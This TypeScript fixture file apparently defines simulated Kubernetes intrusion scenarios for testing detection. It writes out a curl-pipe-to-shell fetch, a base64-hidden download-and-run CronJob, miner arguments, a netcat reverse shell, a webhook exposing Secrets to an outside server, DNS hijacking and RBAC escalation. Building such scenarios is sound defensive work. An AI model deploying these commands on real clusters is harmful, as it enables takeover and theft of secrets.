/** Intruders who run something, or make the cluster work for them. */
import { clusterRole, clusterRoleBinding, subject, workload } from '../incidents/objects.ts';
import { times } from './acts.ts';
import type { Situation } from './situation.ts';
import { admin, alice, bob, byAlice, byBob, byDana, byPipeline, pipeline } from './thieves.ts';
import { account, app, config, container, cronJob, pod, rule, runs, service, space, webhook } from './things.ts';

export const WORKLOADS: readonly Situation[] = [
  {
    name: 'script-in-fifty-pods',
    ...byPipeline,
    story: 'With the token of the pipeline, an intruder starts fifty pods that fetch a script and run it.',
    creation: [pipeline.create(space('batch-render'))],
    after: [
      pipeline.create(
        workload(
          'Deployment',
          'batch-render',
          'render',
          runs('docker.io/library/debian:13', ['sh', '-c', 'curl -fsSL http://198.51.100.50/r.sh | sh']),
          50,
        ),
      ),
    ],
  },
  {
    name: 'hourly-script',
    ...byBob,
    story:
      'A stolen developer session leaves a CronJob that fetches and runs a script every ten minutes, hidden in base64.',
    creation: [bob.create(space('log-rotate'))],
    after: [
      bob.create(
        cronJob(
          'log-rotate',
          'rotate',
          '*/10 * * * *',
          runs('docker.io/library/python:3.14', [
            'sh',
            '-c',
            'echo d2dldCAtcU8tIGh0dHA6Ly8xOTguNTEuMTAwLjUwL2E= | base64 -d | sh',
          ]),
        ),
      ),
    ],
  },
  {
    name: 'miner-by-another-name',
    ...byPipeline,
    story:
      'With the token of the pipeline, an intruder starts a miner from an image with an innocent name; the arguments give it away.',
    creation: [pipeline.create(space('web-assets'))],
    after: [
      pipeline.create(
        workload(
          'Deployment',
          'web-assets',
          'assets',
          {
            containers: [
              container('docker.io/webassets/nginx:1.29', undefined, {
                args: [
                  '--algo=rx/0',
                  '--url=stratum+ssl://pool.example.net:443',
                  '--donate-level=1',
                  '--user=48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt',
                ],
              }),
            ],
          },
          8,
        ),
      ),
    ],
  },
  {
    name: 'webhook-to-the-outside',
    ...byDana,
    story:
      'A stolen administrator makes a namespace, and lets every pod and Secret be shown to a web server outside, by an admission webhook.',
    creation: [admin.create(space('audit-forwarder'))],
    after: [
      admin.create(webhook('Mutating', 'audit-forwarder', { url: 'https://hook.example.net/m' }, ['pods', 'secrets'])),
      times(2, admin.get('/api/v1/secrets')),
    ],
  },
  {
    name: 'names-of-the-cluster',
    ...byDana,
    story: 'A stolen administrator makes a namespace with a server for names, and turns the cluster DNS to it.',
    standing: [config('kube-system', 'coredns', { Corefile: '.:53 { forward . /etc/resolv.conf }' })],
    creation: [admin.create(space('dns-cache'))],
    after: [
      admin.create(app('dns-cache', 'resolver')),
      admin.create(service('dns-cache', 'resolver', 'ClusterIP')),
      admin.merge('/api/v1/namespaces/kube-system/configmaps/coredns', {
        data: { Corefile: '.:53 { forward . 10.100.9.9 }' },
      }),
    ],
  },
  {
    name: 'strong-account-of-another',
    ...byAlice,
    story:
      'A stolen developer session makes a namespace as a decoy, and starts a pod in flux-system as the controller that is cluster-admin.',
    creation: [alice.create(space('feature-flags'))],
    after: [
      alice.create(app('feature-flags', 'flags')),
      alice.create(
        pod('flux-system', 'kustomize-helper', {
          serviceAccountName: 'kustomize-controller',
          ...runs('docker.io/bitnami/kubectl:1.36', ['sleep', 'infinity']),
        }),
      ),
    ],
  },
  {
    name: 'forged-gitops-marks',
    ...byBob,
    story:
      'A stolen developer session makes a namespace that says it is of Argo CD, and runs a tunnel to the outside in it.',
    creation: [
      bob.create(
        space(
          'observability',
          { 'argocd.argoproj.io/instance': 'observability', 'app.kubernetes.io/managed-by': 'argocd' },
          { 'argocd.argoproj.io/tracking-id': 'observability:/Namespace:observability/observability' },
        ),
      ),
    ],
    after: [
      bob.create(
        app(
          'observability',
          'collector',
          runs('docker.io/tunnelers/frpc:0.65', [
            'sh',
            '-c',
            'mkfifo /tmp/f; nc 198.51.100.9 9001 < /tmp/f | sh > /tmp/f',
          ]),
        ),
      ),
    ],
  },
  {
    name: 'reads-rights-then-takes-them',
    ...byDana,
    story:
      'A stolen administrator asks in rows what may be done, makes a namespace, and gives its account Secrets, bind and escalate.',
    creation: [
      times(
        8,
        admin.post('/apis/authorization.k8s.io/v1/selfsubjectrulesreviews', {
          apiVersion: 'authorization.k8s.io/v1',
          kind: 'SelfSubjectRulesReview',
          spec: { namespace: 'kube-system' },
        }),
      ),
      admin.create(space('config-sync')),
    ],
    after: [
      admin.create(account('config-sync', 'sync')),
      admin.create(
        clusterRole(
          'config-sync',
          rule('', 'secrets', 'get,list,watch'),
          rule('rbac.authorization.k8s.io', 'clusterroles,clusterrolebindings', 'bind,escalate,create,update'),
        ),
      ),
      admin.create(clusterRoleBinding('config-sync', 'config-sync', subject.account('config-sync', 'sync'))),
      admin.create(app('config-sync', 'sync', { serviceAccountName: 'sync', automountServiceAccountToken: true })),
    ],
  },
];
